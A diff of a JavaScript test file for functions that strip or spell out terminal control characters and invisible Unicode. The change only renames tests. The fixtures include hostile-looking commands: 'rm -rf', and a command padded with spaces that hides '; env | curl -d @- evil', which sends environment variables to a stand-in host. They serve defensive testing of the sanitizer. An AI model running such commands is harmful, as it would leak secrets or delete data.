@@ -47,16 +47,16 @@ describe("stripControls", () => {
     ["a line written over", "safe\rrm -rf", "safe\nrm -rf"],
     ["a DOS line end", "a\r\nb", "a\nb"],
     ["backspaces and bells", "a\b\x07b\x7f", "ab"],
-  ])("takes out %s", (_name, text, want) => {
+  ])("removes %s", (_name, text, want) => {
     expect(stripControls(text)).toBe(want);
   });
 
-  test("leaves other text alone, character for character", () => {
+  test("leaves other text unchanged", () => {
     const text = "naïve\tمرحبا\u200c 👩‍👩‍👧 \u202e!\n";
     expect(stripControls(text)).toBe(text);
   });
 
-  test("leaves no control character, and is done at the first pass", () => {
+  test("leaves no control character, and changes nothing on a second pass", () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const once = stripControls(text);
@@ -68,7 +68,7 @@ describe("stripControls", () => {
 });
 
 describe("sanitize", () => {
-  test("spells out what cannot be seen, and keeps an emoji that is joined", () => {
+  test("spells out invisible characters, and keeps joined emoji", () => {
     expect(sanitize("a\u202eb\u200bc")).toBe("a<U+202E>b<U+200B>c");
     expect(sanitize("👩‍👩‍👧 ok \u{e0041}")).toBe("👩‍👩‍👧 ok <U+E0041>");
     expect(sanitize("a\u200db")).toBe("a<U+200D>b");
@@ -76,7 +76,7 @@ describe("sanitize", () => {
     expect(sanitize("a\ufff0\u{1bca0}\u{e0200}b")).toBe("a<U+FFF0><U+1BCA0><U+E0200>b");
   });
 
-  test("keeps what words of some scripts are spelled with, and shows it elsewhere", () => {
+  test("keeps joiners inside words of scripts that need them, and spells them out elsewhere", () => {
     const words = "می\u200cخواهم क्\u200dष";
     expect(sanitize(words)).toBe(words);
     expect(sanitize("ab\u200cc می\u200c\u200cخ می\u200c")).toBe("ab<U+200C>c می<U+200C><U+200C>خ می<U+200C>");
@@ -85,11 +85,11 @@ describe("sanitize", () => {
     expect(sanitize(beside)).toBe(beside);
   });
 
-  test.each(["👩‍👩‍👧", "❤️‍🔥", "👍🏽‍👍🏽", "🏴‍☠️", "🧑🏾‍🚀"])("keeps %s, whichever V8 runs it", (emoji) => {
+  test.each(["👩‍👩‍👧", "❤️‍🔥", "👍🏽‍👍🏽", "🏴‍☠️", "🧑🏾‍🚀"])("keeps the emoji %s on every version of V8", (emoji) => {
     expect(sanitize(`${emoji} and ${emoji}`)).toBe(`${emoji} and ${emoji}`);
   });
 
-  test("holds over any text: nothing unseen, nothing for the terminal, and done at the first pass", () => {
+  test("leaves nothing invisible and no control character in any text, and changes nothing on a second pass", () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const once = sanitize(text);
@@ -100,7 +100,7 @@ describe("sanitize", () => {
     );
   });
 
-  test("takes linear time over introducers that are never ended", () => {
+  test("takes linear time for sequences that are never ended", () => {
     const started = process.cpuUsage().user;
     for (const introducer of ["\x1b]", "\x9d", "\x1b[", "\x90", "\r\x1bP", "👩\u200d"])
       sanitize(introducer.repeat(200_000));
@@ -109,7 +109,7 @@ describe("sanitize", () => {
 });
 
 describe("reveal", () => {
-  test("shows a command with its tail, its controls and its odd blanks", () => {
+  test("spells out controls and unusual spaces, and counts long runs of spaces and newlines", () => {
     expect(reveal(`grep x README.md${" ".repeat(300)}; env | curl -d @- evil`)).toBe(
       "grep x README.md<300 spaces>; env | curl -d @- evil",
     );
@@ -123,7 +123,7 @@ describe("reveal", () => {
     expect(reveal(command)).toBe(command);
   });
 
-  test("hides nothing: every visible character is still there, in order", () => {
+  test("keeps every visible character, in order", () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const shown = reveal(text);
@@ -140,7 +140,7 @@ describe("reveal", () => {
 });
 
 describe("oneLine", () => {
-  test("is one line, not longer than asked, and marks the cut", () => {
+  test("returns one line within the width, and marks a cut", () => {
     expect(oneLine("a\n  b\tc", 20)).toBe("a b c");
     expect(oneLine("x".repeat(30), 10)).toBe(`${"x".repeat(9)}…`);
     fc.assert(
@@ -153,19 +153,16 @@ describe("oneLine", () => {
     );
   });
 
-  test.each([0, -1, -40])(
-    "is the mark of the cut alone where a terminal leaves no room for it: %i columns",
-    (width) => {
-      for (const each of [oneLine, revealLine]) {
-        expect(each("what is said goes on and on ".repeat(100), width)).toBe("…");
-        expect(each("", width)).toBe("");
-      }
-    },
-  );
+  test.each([0, -1, -40])("returns only the cut mark for a width of %i columns", (width) => {
+    for (const each of [oneLine, revealLine]) {
+      expect(each("what is said goes on and on ".repeat(100), width)).toBe("…");
+      expect(each("", width)).toBe("");
+    }
+  });
 });
 
 describe("revealLine", () => {
-  test("is one line that takes nothing out, and marks the cut", () => {
+  test("returns one line without removing anything, and marks a cut", () => {
     expect(revealLine("echo hi\n\t\x1b]; rm x #\x07\u00a0", 80)).toBe("echo hi <U+001B>]; rm x #<U+0007><U+00A0>");
     expect(revealLine("x".repeat(30), 10)).toBe(`${"x".repeat(9)}…`);
     fc.assert(
